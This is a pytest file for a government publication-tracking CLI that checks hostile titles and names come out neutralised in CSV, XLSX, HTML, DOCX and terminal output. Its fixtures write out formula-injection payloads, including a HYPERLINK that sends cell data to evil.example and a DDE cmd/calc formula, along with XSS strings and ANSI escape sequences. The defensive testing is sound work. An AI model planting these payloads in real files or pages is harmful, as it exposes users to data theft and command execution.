"""Hostile titles and names through every writer: spreadsheets never run them, HTML shows them, terminals print them.

The office, two channels and the posts carry formula payloads, ``<script>``, an ANSI screen-clear and
a carriage return; each output file is read back (openpyxl for XLSX) and checked cell by cell.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner, Result

from channelwatch.cli import app
from channelwatch.cli.common import echo_data
from channelwatch.render import environment
from channelwatch.spreadsheet import csv_text, neutralise, neutralise_workbook
from channelwatch.terminal import shown
from tests.conftest import write_instance

OFFICE = "=1+2<script>alert('局')</script>"
WEIBO = "-微博<i>x</i>"
WECHAT = "@公众号"
TITLES = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
    "\x1b[2J清屏\x1b]8;;http://evil.example\x07链接",
    "正常标题",
]
ACTIVE = ("=", "+", "-", "@", "\t", "\r")


def cw(root: Path, *args: str) -> Result:
    return CliRunner().invoke(app, ["--instance", str(root), *args])


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_instance(tmp_path_factory.mktemp("hostile") / "instance")
    config = root / "config" / "channelwatch.toml"
    text = config.read_text(encoding="utf-8")
    text = text.replace('name = "彭阳县王洼产业园区管理委员会"', f'name = "{OFFICE}"')
    text = text.replace('name = "微博"', f'name = "{WEIBO}"').replace('name = "微信公众号"', f'name = "{WECHAT}"')
    config.write_text(text, encoding="utf-8")
    rows = [[title, f"2020-{n + 1:02d}-10 09:00", f"https://weibo.com/1/{n}"] for n, title in enumerate(TITLES)]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["标题", "发布时间", "链接"], *rows])
    export = root / "weibo.csv"
    export.write_text(buffer.getvalue(), encoding="utf-8")
    result = cw(root, "import", "weibo", str(export))
    assert result.exit_code == 0, result.output
    wechat = root / "wechat.csv"
    wechat.write_text("标题,发布时间\n公众号文章,2020-02-01 09:00\n", encoding="utf-8")
    assert cw(root, "import", "wechat", str(wechat)).exit_code == 0
    return root


def _stored_titles(root: Path) -> list[str]:
    """The titles as the import stored them (it trims leading and trailing whitespace such as tab and CR)."""
    result = cw(root, "publications", "weibo", "--year", "2020", "-f", "json")
    return [entry["title"] for entry in json.loads(result.stdout)]


def _assert_inert(value: object, where: str) -> None:
    if isinstance(value, str):
        assert not value.startswith(ACTIVE), f"{where}: {value!r}"


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith("\ufeff".encode()), path
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _assert_workbook_inert(path: Path) -> list[object]:
    workbook = load_workbook(path)
    values: list[object] = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{cell.coordinate} is a formula: {cell.value!r}"
                _assert_inert(cell.value, f"{path.name}!{cell.coordinate}")
                values.append(cell.value)
    return values


def test_publications_csv_neutralises_every_title(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "明细.csv"
    assert cw(hostile, "publications", "weibo", "--year", "2020", "-o", str(target)).exit_code == 0
    rows = _read_csv(target)
    titles = [row[2] for row in rows[1:]]
    stored = _stored_titles(hostile)
    assert titles == ["'" + t if t.startswith(ACTIVE) else t for t in stored]
    assert titles[:4] == ["'" + t for t in TITLES[:4]]
    for row in rows:
        for cell in row:
            _assert_inert(cell, "publications.csv")


def test_publications_xlsx_neutralises_titles_and_the_channel_name(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "明细.xlsx"
    assert cw(hostile, "publications", "weibo", "--year", "2020", "-o", str(target)).exit_code == 0
    values = _assert_workbook_inert(target)
    assert "'" + TITLES[0] in values
    assert "<script>alert(1)</script>" in values  # not a spreadsheet's business: kept as text
    # XLSX (XML 1.0) cannot hold ESC or BEL at all: they are written as visible escapes, not refused.
    assert "\\x1b[2J清屏\\x1b]8;;http://evil.example\\x07链接" in values
    assert any(isinstance(v, str) and v.startswith("'" + WEIBO) for v in values)


def test_summary_csv_and_xlsx_neutralise_channel_and_office_names(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "统计.csv"
    assert cw(hostile, "summary", "--year", "2020", "-f", "csv", "-o", str(target)).exit_code == 0
    header = _read_csv(target)[0]
    assert header == ["月份", "政府网站", "'" + WEIBO, "'" + WECHAT, "合计"]
    stdout = cw(hostile, "summary", "--year", "2020", "-f", "csv")
    assert stdout.output.splitlines()[0] == ",".join(header)

    book = tmp_path / "统计.xlsx"
    assert cw(hostile, "summary", "--year", "2020", "-f", "xlsx", "-o", str(book)).exit_code == 0
    values = _assert_workbook_inert(book)
    assert f"'{OFFICE}2020年信息发布统计" in values
    assert "'" + WEIBO in values and "'" + WECHAT in values
    sheet = load_workbook(book)["分渠道"]
    weibo_row = next(row for row in sheet.iter_rows(values_only=True) if row[0] == "'" + WEIBO)
    assert weibo_row[2] == len(TITLES) and isinstance(weibo_row[2], int)  # numbers stay numbers


def test_quarterly_sheet_neutralises_office_and_channel_names(hostile: Path, tmp_path: Path) -> None:
    target = tmp_path / "季度.xlsx"
    result = cw(hostile, "quarterly", "--year", "2020", "--quarter", "1", "-o", str(target))
    assert result.exit_code == 0, result.output
    values = _assert_workbook_inert(target)
    assert f"填报单位：{OFFICE}" in values  # starts with 填报单位, so harmless as it is
    assert "'" + WEIBO in values and "'" + WECHAT in values
    assert any(isinstance(v, str) and v.startswith("'" + OFFICE) for v in values)


def test_rejected_rows_file_neutralises_the_cells(hostile: Path, tmp_path: Path) -> None:
    export = tmp_path / "bad.csv"
    export.write_text('标题,发布时间\n=cmd|" /C calc"!A0,不是日期\n@SUM(1),2020-03-01\n"\r-1+1",\n', encoding="utf-8")
    result = cw(hostile, "import", "weibo", str(export), "--skip-invalid")
    assert result.exit_code == 0, result.output
    rows = _read_csv(tmp_path / "bad.rejected.csv")
    assert rows[1][0] == '\'=cmd|" /C calc"!A0'
    assert rows[2][0] == "'\r-1+1"
    for row in rows:
        for cell in row:
            _assert_inert(cell, "bad.rejected.csv")


def test_annual_html_escapes_office_channels_and_input_texts(hostile: Path, tmp_path: Path) -> None:
    assert cw(hostile, "report", "annual", "--year", "2020", "--init-inputs").exit_code == 0
    inputs = hostile / "config" / "annual" / "2020.toml"
    text = inputs.read_text(encoding="utf-8")
    text = text.replace('overview_intro = ""', 'overview_intro = "<img src=x onerror=alert(1)>开篇"')
    text = text.replace('problems = ""', 'problems = "</p><script>steal()</script>"')
    inputs.write_text(text, encoding="utf-8")
    target = tmp_path / "年报.html"
    result = cw(hostile, "report", "annual", "--year", "2020", "-f", "html", "--force", "-o", str(target))
    assert result.exit_code == 0, result.output
    html = target.read_text(encoding="utf-8")
    assert "<script" not in html
    assert "<img src=x" not in html and "<i>x</i>" not in html
    assert "&lt;script&gt;alert(&#39;局&#39;)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;开篇" in html
    assert "&lt;/p&gt;&lt;script&gt;steal()&lt;/script&gt;" in html
    assert "-微博&lt;i&gt;x&lt;/i&gt;" in html
    assert html.count("<h1>") == 1 and "<figure>" in html  # the template's own markup is untouched


def test_quarterly_html_escapes(hostile: Path) -> None:
    result = cw(hostile, "quarterly", "--year", "2020", "--quarter", "1", "-f", "html")
    assert result.exit_code == 0
    assert "<script" not in result.output and "&lt;script&gt;" in result.output


def test_every_html_template_is_autoescaped() -> None:
    package = Path(__file__).resolve().parents[2] / "src" / "channelwatch" / "templates"
    names = [p.relative_to(package).as_posix() for p in package.rglob("*.html.j2")]
    assert "annual/report.html.j2" in names
    autoescape = environment(None).autoescape
    assert callable(autoescape)
    for name in names:
        assert autoescape(name), name
    assert not autoescape("summary.txt.j2")
    assert not autoescape("annual/report.md.j2")


def test_terminal_shows_control_characters_escaped_and_files_keep_them(hostile: Path, tmp_path: Path) -> None:
    listed = cw(hostile, "publications", "weibo", "--year", "2020")
    assert listed.exit_code == 0
    assert "\x1b" not in listed.output and "\r" not in listed.output and "\x07" not in listed.output
    assert "\\x1b[2J清屏\\x1b]8;;http://evil.example\\x07链接" in listed.output
    target = tmp_path / "明细.json"
    assert cw(hostile, "publications", "weibo", "--year", "2020", "-o", str(target)).exit_code == 0
    titles = [entry["title"] for entry in json.loads(target.read_text(encoding="utf-8"))]
    assert titles == _stored_titles(hostile)  # files hold exactly what was stored
    assert TITLES[7] in titles and "<script>alert(1)</script>" in titles


def test_error_messages_show_file_names_escaped(hostile: Path, tmp_path: Path) -> None:
    name = tmp_path / "evil\x1b[2J\r.csv"
    result = cw(hostile, "import", "weibo", str(name))
    assert result.exit_code == 1
    assert "\x1b" not in result.output and "\r" not in result.output
    assert "evil\\x1b[2J\\r.csv" in result.output


def test_data_on_stdout_is_unchanged_when_piped_and_escaped_on_a_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    echo_data("a\x1b[2Jb\n")
    assert capsys.readouterr().out == "a\x1b[2Jb\n"
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    echo_data("a\x1b[2Jb\n")
    assert capsys.readouterr().out == "a\\x1b[2Jb\n"


@given(st.text())
def test_shown_text_has_no_control_character_but_newlines(text: str) -> None:
    result = shown(text)
    for ch in result:
        assert ch == "\n" or unicodedata.category(ch) not in ("Cc", "Cs"), repr(ch)
        assert ch not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    if text.isprintable():
        assert result == text


@given(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False), st.none()))
def test_neutralised_cells_never_start_a_formula_and_numbers_stay(value: object) -> None:
    cell = neutralise(value)
    if isinstance(value, str):
        assert not cell.startswith(ACTIVE)
        assert cell in (value, "'" + value)
    else:
        assert cell == value


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5))
def test_csv_text_round_trips_to_neutralised_cells(rows: list[list[str]]) -> None:
    parsed = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert parsed == [[neutralise(cell) for cell in row] for row in rows]


def test_neutralise_workbook_turns_formulas_into_text(tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["=1+1", 5, "-3", "ok"])
    assert sheet["A1"].data_type == "f"
    neutralise_workbook(workbook)
    workbook.save(tmp_path / "x.xlsx")
    values = [c.value for c in next(load_workbook(tmp_path / "x.xlsx").active.iter_rows())]  # type: ignore[union-attr]
    assert values == ["'=1+1", 5, "'-3", "ok"]


def test_control_characters_in_names_reach_docx_and_xlsx_as_escapes(tmp_path: Path) -> None:
    root = write_instance(tmp_path / "instance")
    config = root / "config" / "channelwatch.toml"
    text = config.read_text(encoding="utf-8").replace('name = "微博"', 'name = "微博\\u001b[2J\\u0007"')
    config.write_text(text.replace('short_name = "我委"', 'short_name = "我委\\u001b[31m"'), encoding="utf-8")
    export = tmp_path / "weibo.csv"
    export.write_text("标题,发布时间\n一条,2020-03-01 09:00\n", encoding="utf-8")
    assert cw(root, "import", "weibo", str(export)).exit_code == 0
    draft = tmp_path / "年报.docx"
    result = cw(root, "report", "annual", "--year", "2020", "--force", "-o", str(draft))
    assert result.exit_code == 0, result.output
    from docx import Document

    body = "\n".join(p.text for p in Document(str(draft)).paragraphs)
    assert "我委\\x1b[31m通过" in body and "微博\\x1b[2J\\x07" in body
    book = tmp_path / "统计.xlsx"
    assert cw(root, "summary", "--year", "2020", "-f", "xlsx", "-o", str(book)).exit_code == 0
    assert "微博\\x1b[2J\\x07" in _assert_workbook_inert(book)
    shown_on_terminal = cw(root, "summary", "--year", "2020").output
    assert "\x1b" not in shown_on_terminal and "我委\\x1b[31m通过" in shown_on_terminal
